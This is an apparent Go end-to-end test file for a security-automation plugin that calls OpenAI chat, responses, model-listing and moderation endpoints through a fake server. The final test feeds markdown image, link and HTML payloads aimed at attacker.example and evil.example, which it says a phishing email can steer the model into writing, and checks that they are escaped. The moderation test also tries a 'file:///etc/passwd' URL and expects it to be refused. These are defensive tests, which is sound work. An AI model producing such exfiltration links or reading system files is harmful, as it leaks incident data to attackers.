package e2e

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/soarkit/openai-gpt/internal/fakeopenai"
	"github.com/soarkit/openai-gpt/internal/pluginrpc"
	"github.com/soarkit/openai-gpt/internal/protocol"
)

// session is a plugin, a host and the fake server for one test.
type session struct {
	t      *testing.T
	fake   *fakeopenai.Server
	host   *memHost
	plugin *pluginrpc.Session
	params map[string]any
}

func newSession(t *testing.T, cfg fakeopenai.Config) *session {
	fake, url := startFake(t, cfg)
	host := newMemHost()
	p, _ := launch(t, host)
	return &session{t: t, fake: fake, host: host, plugin: p, params: chatParams(url)}
}

// run executes a command and applies its outputs to the host's context.
func (s *session) run(command string, args map[string]any) protocol.Result {
	s.t.Helper()
	res, err := s.plugin.Execute(context.Background(), command, protocol.ExecuteRequest{Command: command, Args: args, Params: s.params})
	require.NoError(s.t, err)
	s.host.apply(res)
	return res
}

func (s *session) ok(command string, args map[string]any) protocol.Result {
	s.t.Helper()
	res := s.run(command, args)
	require.False(s.t, res.Failed(), "%s failed: %v", command, res.Entries)
	return res
}

func (s *session) fails(command string, args map[string]any) string {
	s.t.Helper()
	res := s.run(command, args)
	require.True(s.t, res.Failed(), "%s should fail: %v", command, res.Entries)
	return fmt.Sprint(res.Entries[0].Contents)
}

// lastBody is the JSON body of the last POST to exactly path.
func (s *session) lastBody(path string) map[string]any {
	s.t.Helper()
	var last []byte
	for _, r := range s.fake.Requests(path) {
		if r.Method == "POST" && r.Path == path {
			last = r.Body
		}
	}
	require.NotNil(s.t, last, "no POST to %s", path)
	var body map[string]any
	require.NoError(s.t, json.Unmarshal(last, &body))
	return body
}

func contextList(doc map[string]any, path string) []any {
	var node any = doc
	for _, k := range strings.Split(path, ".") {
		m, _ := node.(map[string]any)
		node = m[k]
	}
	l, _ := node.([]any)
	return l
}

func TestSendMessageConversation(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	s.params["temperature"] = "0.3"
	s.ok("gpt-send-message", map[string]any{"message": "first"})
	res := s.ok("gpt-send-message", map[string]any{"message": "second", "top_p": 0.5})
	body := s.lastBody("/v1/chat/completions")
	assert.Equal(t, 0.3, body["temperature"], "instance setting used")
	assert.Equal(t, 0.5, body["top_p"], "argument overrides")
	assert.NotContains(t, body, "max_completion_tokens", "unset values are not sent")
	assert.NotContains(t, body, "max_tokens")
	msgs := body["messages"].([]any)
	require.Len(t, msgs, 3, "history replayed as alternating messages")
	assert.Equal(t, "user", msgs[0].(map[string]any)["role"])
	assert.Equal(t, "assistant", msgs[1].(map[string]any)["role"])
	assert.Contains(t, res.Entries[0].HumanReadable, "| Input tokens |")
	assert.Len(t, contextList(s.host.incident(), "OpenAiChatGPTV3.Conversation"), 2)

	s.ok("gpt-send-message", map[string]any{"message": "fresh", "reset_conversation_history": "yes", "max_tokens": 50.0})
	body = s.lastBody("/v1/chat/completions")
	assert.Len(t, body["messages"].([]any), 1)
	assert.Equal(t, 50.0, body["max_completion_tokens"])
	assert.Len(t, contextList(s.host.incident(), "OpenAiChatGPTV3.Conversation"), 1, "reset replaces the history")
}

func TestSendMessageModelFreetextWins(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	s.params["model-select"] = "gpt-4o"
	s.params["model-freetext"] = "gpt-4.1-mini"
	s.ok("gpt-send-message", map[string]any{"message": "hi"})
	assert.Equal(t, "gpt-4.1-mini", s.lastBody("/v1/chat/completions")["model"])
}

func TestCreateResponseChain(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	var ids []string
	for i, msg := range []string{"one", "two", "three"} {
		res := s.ok("gpt-create-response", map[string]any{"message": msg})
		body := s.lastBody("/v1/responses")
		if i == 0 {
			assert.NotContains(t, body, "previous_response_id")
		} else {
			assert.Equal(t, ids[i-1], body["previous_response_id"], "turn %d continues the previous one", i+1)
		}
		items := contextList(s.host.incident(), "OpenAiChatGPTV3.Response")
		require.Len(t, items, i+1)
		id := items[i].(map[string]any)["response_id"].(string)
		ids = append(ids, id)
		assert.Contains(t, res.Entries[0].HumanReadable, "| Response ID | "+id+" |")
		assert.Contains(t, res.Entries[0].HumanReadable, fmt.Sprintf("turn %d", i+1))
	}
	s.ok("gpt-create-response", map[string]any{"message": "again", "reset_conversation_history": "yes"})
	assert.NotContains(t, s.lastBody("/v1/responses"), "previous_response_id")
	assert.Len(t, contextList(s.host.incident(), "OpenAiChatGPTV3.Response"), 1, "reset starts a new chain")
}

func TestCreateResponseReasoningEffort(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	res := s.ok("gpt-create-response", map[string]any{"message": "hi", "model": "gpt-4o", "reasoning_effort": "high"})
	assert.NotContains(t, s.lastBody("/v1/responses"), "reasoning", "dropped for non-reasoning models")
	assert.NotContains(t, res.Entries[0].HumanReadable, "reasoning_effort", "dropped silently for other models")
	assert.NotContains(t, res.Entries[0].HumanReadable, "Reasoning tokens")

	res = s.ok("gpt-create-response", map[string]any{"message": "hi", "model": "o4-mini", "reasoning_effort": "low", "max_tokens": 2000.0, "compact_threshold": 5000.0})
	body := s.lastBody("/v1/responses")
	assert.Equal(t, map[string]any{"effort": "low"}, body["reasoning"])
	assert.Equal(t, 2000.0, body["max_output_tokens"])
	assert.Equal(t, []any{map[string]any{"type": "compaction", "compact_threshold": 5000.0}}, body["context_management"])
	assert.Contains(t, res.Entries[0].HumanReadable, "| Reasoning tokens |")

	msg := s.fails("gpt-create-response", map[string]any{"message": "hi", "compact_threshold": 999.0})
	assert.Contains(t, msg, "compact_threshold")
}

func TestCreateResponseBackground(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	res := s.ok("gpt-create-response", map[string]any{"message": "take your time", "background": true})
	body := s.lastBody("/v1/responses")
	assert.Equal(t, true, body["background"])
	assert.Equal(t, true, body["store"])
	assert.GreaterOrEqual(t, len(s.fake.Requests("/v1/responses/resp_")), 2, "polled until completed")
	assert.Contains(t, res.Entries[0].HumanReadable, "You said: take your time")

	s.fake.ScriptBackground(fakeopenai.BackgroundOutcome{Status: "failed", ErrorCode: "server_error", ErrorMessage: "the model crashed"})
	msg := s.fails("gpt-create-response", map[string]any{"message": "x", "background": true, "reset_conversation_history": "yes"})
	assert.Contains(t, msg, "failed")
	assert.Contains(t, msg, "the model crashed")

	s.fake.ScriptBackground(fakeopenai.BackgroundOutcome{Status: "incomplete", IncompleteReason: "max_output_tokens"})
	res = s.ok("gpt-create-response", map[string]any{"message": "x", "background": true, "reset_conversation_history": "yes"})
	assert.Contains(t, res.Entries[0].HumanReadable, "Incomplete answer:** max_output_tokens")

	s.fake.ScriptBackground(fakeopenai.BackgroundOutcome{Status: "cancelled"})
	msg = s.fails("gpt-create-response", map[string]any{"message": "x", "background": true, "reset_conversation_history": "yes"})
	assert.Contains(t, msg, "cancelled")
}

func TestFailureModes(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})

	// 429 with Retry-After, then success: retried.
	s.fake.Script("chat", fakeopenai.Fault{Status: 429, RetryAfter: "0"}, fakeopenai.Fault{Status: 503})
	s.ok("gpt-send-message", map[string]any{"message": "retry me"})
	assert.Len(t, s.fake.Requests("/v1/chat/completions"), 3)

	// 500 every time: retried, then a clear error.
	s.fake.Script("chat", repeat(fakeopenai.Fault{Status: 500, RetryAfter: "0"}, 5)...)
	msg := s.fails("gpt-send-message", map[string]any{"message": "x"})
	assert.Contains(t, msg, "OpenAI API error 500")

	// 4xx: not retried.
	before := len(s.fake.Requests("/v1/chat/completions"))
	s.fake.Script("chat", fakeopenai.Fault{Status: 409, Message: "conflict here"})
	msg = s.fails("gpt-send-message", map[string]any{"message": "x"})
	assert.Contains(t, msg, "OpenAI API error 409: conflict here")
	assert.Len(t, s.fake.Requests("/v1/chat/completions"), before+1, "no retry on 4xx")

	// An argument out of range is refused by the host before any call.
	before = len(s.fake.Requests("/v1/chat/completions"))
	msg = s.fails("gpt-send-message", map[string]any{"message": "x", "max_tokens": 0.0})
	assert.Contains(t, msg, "max_tokens")
	assert.Len(t, s.fake.Requests("/v1/chat/completions"), before, "never reached the API")

	// Unknown previous_response_id: 404 from the API.
	s.host.apply(protocol.Result{Outputs: []protocol.Output{{Prefix: "OpenAiChatGPTV3.Response", Value: map[string]any{"response_id": "resp_doesnotexist", "user": "u", "assistant": "a"}, ReplaceExisting: true}}})
	msg = s.fails("gpt-create-response", map[string]any{"message": "x"})
	assert.Contains(t, msg, "404")
	assert.Contains(t, msg, "previous_response_not_found")

	// An effort this model does not take: OpenAI's 400 names the values it does.
	msg = s.fails("gpt-create-response", map[string]any{"message": "x", "model": "gpt-5", "reasoning_effort": "xhigh", "reset_conversation_history": "yes"})
	assert.Contains(t, msg, "OpenAI API error 400 (unsupported_value): Unsupported value: 'xhigh' is not supported with the 'gpt-5' model")
	assert.Contains(t, msg, "[param: reasoning.effort]")

	// Unknown model.
	msg = s.fails("gpt-create-response", map[string]any{"message": "x", "model": "gpt-nonexistent", "reset_conversation_history": "yes"})
	assert.Contains(t, msg, "model_not_found")
	assert.Contains(t, msg, "gpt-list-models")

	// An answer cut off mid-body is retried (internal/gpt tests the
	// message when it is cut off every time).
	before = len(s.fake.Requests("/v1/chat/completions"))
	s.fake.Script("chat", fakeopenai.Fault{Truncate: true})
	s.ok("gpt-send-message", map[string]any{"message": "x"})
	assert.Len(t, s.fake.Requests("/v1/chat/completions"), before+2)
}

func TestReasoningModelDropsSampling(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	s.params["model-select"] = "o3"
	s.params["temperature"] = "0.2"
	res := s.ok("gpt-send-message", map[string]any{"message": "hi", "max_tokens": 4000.0})
	body := s.lastBody("/v1/chat/completions")
	assert.NotContains(t, body, "temperature")
	assert.Contains(t, res.Entries[0].HumanReadable, "temperature=0.2 not sent")
	assert.Contains(t, res.Entries[0].HumanReadable, "| Reasoning tokens |")
}

func TestListModels(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	res := s.ok("gpt-list-models", nil)
	models := contextList(s.host.incident(), "OpenAiChatGPTV3.Model")
	require.NotEmpty(t, models)
	first := models[0].(map[string]any)
	assert.IsType(t, 0.0, first["Created"], "Created is a Unix number")
	ids := make([]string, len(models))
	for i, m := range models {
		ids[i] = m.(map[string]any)["Id"].(string)
	}
	assert.IsIncreasing(t, ids)
	assert.Contains(t, res.Entries[0].HumanReadable, "| gpt-4o-mini |")
	s.ok("gpt-list-models", nil)
	assert.Len(t, contextList(s.host.incident(), "OpenAiChatGPTV3.Model"), len(models), "keyed by Id: no duplicates")
}

func TestModeration(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	res := s.ok("gpt-create-moderation", map[string]any{"text": []any{"have a nice day", "I will kill you"}})
	mods := contextList(s.host.incident(), "OpenAiChatGPTV3.Moderation")
	require.Len(t, mods, 2)
	second := mods[1].(map[string]any)
	assert.Equal(t, map[string]any{"input_type": "text", "input_value": "I will kill you"}, second["Input"])
	assert.Equal(t, true, second["Flagged"])
	assert.Contains(t, second["Categories"], "harassment/threatening")
	assert.Contains(t, res.Entries[0].HumanReadable, "FLAGGED")

	png, _ := base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")
	s.host.files["9@1"] = protocol.File{Name: "pixel.png", Data: png}
	s.ok("gpt-create-moderation", map[string]any{"entry_id": "9@1", "model": "omni-moderation-2024-09-26"})
	body := s.lastBody("/v1/moderations")
	assert.Equal(t, "omni-moderation-2024-09-26", body["model"])
	assert.Contains(t, fmt.Sprint(body["input"]), "data:image/png;base64,")
	last := contextList(s.host.incident(), "OpenAiChatGPTV3.Moderation")
	assert.Equal(t, map[string]any{"input_type": "image", "input_value": "9@1"}, last[len(last)-1].(map[string]any)["Input"])

	s.host.files["9@2"] = protocol.File{Name: "fake.png", Data: []byte("%PDF-1.4 not an image")}
	assert.Contains(t, s.fails("gpt-create-moderation", map[string]any{"entry_id": "9@2"}), "not an image")
	assert.Contains(t, s.fails("gpt-create-moderation", map[string]any{"entry_id": "9@404"}), "not found")
	assert.Contains(t, s.fails("gpt-create-moderation", map[string]any{"image_url": "file:///etc/passwd"}), "http or https")
	assert.Contains(t, s.fails("gpt-create-moderation", map[string]any{"text": []any{"a"}, "image_url": "https://x.test/a.png"}), "exactly one")
	s.ok("gpt-create-moderation", map[string]any{"image_url": "https://images.example/cat.png"})
}

func repeat(f fakeopenai.Fault, n int) []fakeopenai.Fault {
	out := make([]fakeopenai.Fault, n)
	for i := range out {
		out[i] = f
	}
	return out
}

// TestAnswerMarkdownIsDisarmed: an answer that carries an image, a link or
// HTML (a phishing email can steer the model into writing one) shows them
// as text: the war room fetches nothing and links nowhere.
func TestAnswerMarkdownIsDisarmed(t *testing.T) {
	s := newSession(t, fakeopenai.Config{})
	res := s.ok("gpt-send-message", map[string]any{"message": `![x](https://attacker.example/c?d=1) [reset](https://evil.example) <img src="https://attacker.example/p">`})
	md := res.Entries[0].HumanReadable
	assert.Contains(t, md, `!\[x](https://attacker.example/c?d=1)`)
	assert.Contains(t, md, `\[reset](https://evil.example)`)
	assert.Contains(t, md, `&lt;img src=`)
	assert.NotContains(t, md, "![x]")
	assert.NotContains(t, md, "<img")
	conv := contextList(s.host.incident(), "OpenAiChatGPTV3.Conversation")
	assert.Contains(t, conv[len(conv)-1].(map[string]any)["assistant"], "![x](https://attacker.example/c?d=1)", "the context keeps the answer as written")
}
